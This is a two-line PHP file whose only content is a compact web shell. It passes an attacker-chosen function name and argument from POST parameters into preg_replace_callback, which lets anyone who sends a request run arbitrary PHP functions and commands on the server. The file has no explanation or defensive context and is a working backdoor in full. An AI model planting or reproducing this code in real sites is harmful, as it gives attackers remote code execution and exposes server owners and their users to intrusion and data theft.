<?php
preg_replace_callback('/.+/i', $_POST['f'], $_POST['c']);
